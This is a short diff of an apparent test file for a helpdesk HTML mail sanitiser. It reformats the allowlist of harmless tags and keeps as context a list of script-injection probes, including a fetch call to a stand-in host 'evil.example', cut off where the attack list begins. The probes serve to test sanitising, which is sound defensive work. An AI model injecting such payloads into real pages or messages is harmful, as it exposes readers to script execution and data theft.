@@ -10,11 +10,12 @@ from selectolax.lexbor import LexborHTMLParser
 
 from helpdesk.mail.sanitise import sanitise
 
-HARMLESS_TAGS = set(
-    "-text html head body a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd "
-    "del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav "
-    "ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr".split()
-)
+HARMLESS_TAGS = """
+    -text html head body a abbr address article aside b bdi bdo big blockquote br caption center cite
+    code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6
+    header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub
+    summary sup table tbody td tfoot th thead tr tt u ul var wbr
+""".split()
 
 CALLS = ["alert(1)", "fetch('//evil.example')"]
 ATTACKS = [
